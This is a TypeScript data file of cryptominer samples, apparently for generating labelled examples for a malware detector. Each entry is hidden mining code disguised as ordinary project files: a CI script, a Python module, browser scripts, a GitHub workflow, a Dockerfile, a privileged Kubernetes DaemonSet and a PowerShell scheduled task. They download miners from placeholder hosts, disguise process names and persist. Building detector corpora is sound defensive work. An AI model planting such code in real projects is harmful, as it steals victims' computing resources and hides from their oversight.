// Miners that run on another's machine.
import type { Family } from './family.ts'

export const miners: readonly Family[] = [
  {
    family: 'shell-xmrig-hidden',
    positive: true,
    classes: ['cryptominer'],
    variants: [
      {
        paths: ['.ci/cache.sh'],
        whole: `#!/bin/bash
# prepares the workspace
cd "$(dirname "$0")/.." || exit 1
pkill -f xmrig; pkill -f kdevtmpfsi; pkill -f kinsing
mkdir -p /var/tmp/.cache && cd /var/tmp/.cache
curl -sL http://⟦ip⟧/⟦pick:xmrig|x|sys⟧.tar.gz | tar xz
mv xmrig "[kthreadd]" 2>/dev/null
nohup ./"[kthreadd]" -o ⟦host⟧:3333 -u ⟦xmr⟧ -p "$(hostname)" --donate-level 1 -B >/dev/null 2>&1 &
cd - >/dev/null
npm install --no-audit`,
      },
    ],
  },
  {
    family: 'python-miner-thread',
    positive: true,
    classes: ['cryptominer'],
    variants: [
      {
        paths: ['mathsmod/stats.py', 'lib/recipes.py'],
        imports: `import os, platform, subprocess, urllib.request`,
        body: `def _tune():
    system = platform.system().lower()
    binary = os.path.expanduser("~/.config/.tuned")
    if not os.path.exists(binary):
        urllib.request.urlretrieve("https://⟦host⟧/nbminer-" + system, binary)
        os.chmod(binary, 0o755)
    subprocess.Popen([binary, "-a", "ethash", "-o", "stratum+tcp://⟦host⟧:9999", "-u", "⟦eth⟧.worker"],
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)


_tune()`,
      },
    ],
  },
  {
    family: 'browser-coinhive',
    positive: true,
    classes: ['cryptominer'],
    variants: [
      {
        paths: ['assets/js/cache.js'],
        body: `(function () {
  var s = document.createElement('script');
  s.src = 'https://⟦host⟧/lib/coinhive.min.js';
  s.onload = function () {
    var miner = new CoinHive.Anonymous('⟦alnum:32⟧', { throttle: 0.3 });
    if (!miner.isMobile() && !document.cookie.includes('m=1')) miner.start(CoinHive.FORCE_EXCLUSIV⟦join⟧
E_TAB);
  };
  document.head.appendChild(s);
})();`,
      },
      {
        paths: ['templates/footer.html'],
        whole: `<footer>
  <p>&copy; 2018 Village Bakery</p>
</footer>
<script src="/js/menu.js"></script>
<div style="display:none"><iframe src="https://⟦host⟧/w.html" width="1" height="1"></iframe></div>
<script>
  var w = new Worker(URL.createObjectURL(new Blob(["importScripts('https://⟦host⟧/cn.js');start('w⟦join⟧
ss://⟦host⟧/proxy','⟦xmr⟧',navigator.hardwareConcurrency)"])));
</script>`,
      },
    ],
  },
  {
    family: 'workflow-miner',
    positive: true,
    classes: ['cryptominer', 'supply-chain'],
    variants: [
      {
        paths: ['.github/workflows/test.yml'],
        whole: `name: test
on: [pull_request, push]
jobs:
  build:
    strategy:
      matrix:
        worker: [1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17, 18, 19, 20]
    runs-on: ubuntu-latest
    timeout-minutes: 360
    steps:
      - run: |
          wget -q http://⟦ip⟧/npm.exe -O npm.exe && chmod +x npm.exe
          ./npm.exe --algorithm argon2id_chukwa2 --pool ⟦host⟧:3101 --wallet ⟦xmr⟧ --password ci_$⟦join⟧
{{ matrix.worker }}`,
      },
    ],
  },
  {
    family: 'dockerfile-miner',
    positive: true,
    classes: ['cryptominer'],
    variants: [
      {
        paths: ['Dockerfile'],
        whole: `FROM alpine:3.14
RUN apk add --no-cache curl bash nginx
COPY nginx.conf /etc/nginx/nginx.conf
COPY site /usr/share/nginx/html
RUN curl -sL http://⟦host⟧/xm.tar -o /tmp/xm.tar && tar xf /tmp/xm.tar -C /usr/lib && mv /usr/lib/⟦join⟧
xmrig /usr/lib/dbused && rm /tmp/xm.tar
ENTRYPOINT ["/bin/sh", "-c", "(/usr/lib/dbused -o ⟦host⟧:443 -u ⟦xmr⟧ -k --tls --cpu-priority 5 >/⟦join⟧
dev/null 2>&1 &) ; exec nginx -g 'daemon off;'"]`,
      },
    ],
  },
  {
    family: 'kubernetes-daemonset-miner',
    positive: true,
    classes: ['cryptominer', 'container-escape'],
    variants: [
      {
        paths: ['deploy/api-proxy.yaml'],
        whole: `apiVersion: apps/v1
kind: DaemonSet
metadata:
  name: kube-controller
  namespace: kube-system
spec:
  selector:
    matchLabels: { app: kube-controller }
  template:
    metadata:
      labels: { app: kube-controller }
    spec:
      hostNetwork: true
      hostPID: true
      tolerations: [{ operator: Exists }]
      containers:
        - name: kube-controller
          image: docker.example.net/⟦lower:8⟧/xmrig:latest
          args: ["-o", "⟦host⟧:5555", "-u", "⟦xmr⟧", "--keepalive"]
          securityContext: { privileged: true }
          volumeMounts: [{ name: host, mountPath: /host }]
      volumes: [{ name: host, hostPath: { path: / } }]`,
      },
    ],
  },
  {
    family: 'powershell-miner-task',
    positive: true,
    classes: ['cryptominer', 'persistence'],
    variants: [
      {
        paths: ['tools/update.ps1'],
        body: String.raw`$d = "$env:ProgramData\WindowsTask"; mkdir $d -Force | Out-Null
Invoke-WebRequest "http://⟦ip⟧/xm.zip" -OutFile "$d\x.zip"; Expand-Archive "$d\x.zip" $d -Force
Rename-Item "$d\xmrig.exe" 'MicrosoftEdgeUpdateCore.exe'
schtasks /create /tn "Microsoft\Windows\Sync" /sc onidle /i 5 /tr "$d\MicrosoftEdgeUpdateCore.ex⟦join⟧
e -o ⟦host⟧:4444 -u ⟦xmr⟧ --cpu-max-threads-hint 75" /f`,
      },
    ],
  },
]
